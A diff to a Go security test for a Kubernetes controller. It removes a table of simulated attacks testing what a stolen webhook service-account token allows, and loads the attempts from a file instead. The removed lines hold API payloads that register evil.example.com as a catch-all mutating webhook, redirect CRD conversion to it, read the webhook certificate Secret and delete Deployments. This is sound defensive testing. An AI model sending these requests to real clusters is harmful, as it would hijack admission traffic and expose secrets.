@@ -373,25 +373,6 @@ func missWebhookRight(t *testing.T, rules []rbacv1.PolicyRule, i int) {
 	e.eventually("the API server refuses to "+missing, func(context.Context) error { return e.refused(user, token, missing) })
 }
 
-// webhookAttempts take the rights to keep the certificate of the webhooks.
-func webhookAttempts() []attempt {
-	const evil = `{"clientConfig":{"url":"https://evil.example.com/","service":null}`
-	const conversion = `{"spec":{"conversion":{"strategy":"Webhook","webhook":` + evil + `,"conversionReviewVersions":["v1"]}}}}`
-	const crds, secrets = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/", "/api/v1/namespaces/HOME/secrets"
-	return []attempt{
-		{"register a server of their own as an admission webhook for all resources",
-			"PUT /apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/" + webhookAccount,
-			`{"webhooks":[` + evil + `,"name":"a.example.com","sideEffects":"None","admissionReviewVersions":["v1"],` +
-				`"rules":[{"operations":["*"],"apiGroups":["*"],"apiVersions":["*"],"resources":["*"]}]}]}`},
-		{"change the CRD of Foos", "PUT " + crds + "foos.samplecontroller.k8s.io", conversion},
-		{"change another CRD", "PUT " + crds + "memcacheds.cache.example.com", conversion}, // +drop:memcached
-		{"read the Secret with the certificate of the webhooks", "GET " + secrets + "?fieldSelector=metadata.name=" + webhookAccount, ""},
-		{"create a Secret in the controller's namespace", "POST " + secrets, "{metadata: {name: evil}}"},
-		{"read all Foos and Deployments", "GET /apis/samplecontroller.k8s.io/v1alpha1/foos /apis/apps/v1/deployments", ""},
-		{"create, change or delete a Deployment", "DELETE " + deploymentsPath + "/x", ""},
-	}
-}
-
 // stolenToken tries what an attacker with the token of the webhooks' service account can do, where the
 // program keeps the certificate and where cert-manager does. The table of docs/security.md is its
 // result.
@@ -406,7 +387,7 @@ func (w *webhookEnv) stolenToken(t *testing.T) {
 	shOnCleanup(t, "kubectl delete clusterrolebinding "+binding)
 	sh(t, fmt.Sprintf("kubectl create clusterrolebinding %s --clusterrole=%s-lookups --serviceaccount=%s:%[2]s", binding, webhookAccount, e.namespace))
 	certManager := newAttacker(e, systemNamespace, e.namespace, webhookAccount)
-	for _, a := range slices.Concat(webhookAttempts(), otherAttempts()) {
-		mustDocument(t, a.what, own.succeeds(a), certManager.succeeds(a))
+	for _, a := range readAttempts(t, "webhook", "others") {
+		mustDocument(t, a.What, own.succeeds(a), certManager.succeeds(a))
 	}
 }
